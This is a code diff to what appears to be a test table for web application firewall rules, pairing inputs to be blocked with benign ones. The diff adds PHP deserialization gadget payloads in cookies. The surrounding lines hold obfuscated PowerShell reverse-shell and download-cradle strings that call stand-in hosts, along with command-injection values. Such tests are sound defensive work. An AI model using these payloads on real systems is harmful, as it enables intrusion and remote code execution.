@@ -54,6 +54,8 @@ const CASES: RuleCase[] = [
   [9001678, 'block', 'New-Object broken by backticks before a TCP client, encoded', q('url=%3B%24c%3DNe%60w-Ob%60je%60ct%20System.Net.Sockets.TCPClient(%2790.82.252.42%27%2C29063)'), json('{"body":"Use `New-Object` to build a `WebClient`; see the `Invoke-Expression` docs."}')],
   [9001678, 'block', 'IE`X of a download cradle in a form value', form('host=IE%60X(New-Obje%60ct+Net.WebClient).DownloadString(%27http%3A%2F%2Fexfil.example.test%2Fs%27)'), form('notes=a+higher+sub-%60C%60+noise+floor+and+%60std-env%60+helpers')],
   [9001679, 'block', "a pipe then eval of pw$@d", q("lang=%7Ceval%20%27pw%24%40d%22"), q("q=it%27%27s+a+pi%27%27ng+test")],
+  [9001020, 'block', 'a PHP object of a namespaced class in a cookie', { ...header('Cookie', 'theme=dark; file=O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:6:"socket";N;}'), url: '/account' }, { ...header('Cookie', 'theme=dark; cart=a:2:{i:0;s:5:"apple";i:1;s:4:"pear";}'), url: '/account' }],
+  [9001020, 'block', 'an SPL container, URL-encoded, in a cookie', { ...header('Cookie', 'ip=C%3A16%3A%22SplObjectStorage%22%3A97%3A%7Bx%3Ai%3A0'), url: '/account' }, { ...header('Cookie', 'prefs=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A4%3A%22lang%22%3Bs%3A2%3A%22en%22%3B%7D'), url: '/account' }],
   [9001679, 'block', 'a brace expansion of pi$()ng in a header', header('X-Request-Id', '39710|exec "{pi$()ng,-c,1,pwn412.example.test}\''), header('X-Request-Id', '39710|exec-id {ping,pong}')],
 ];
 
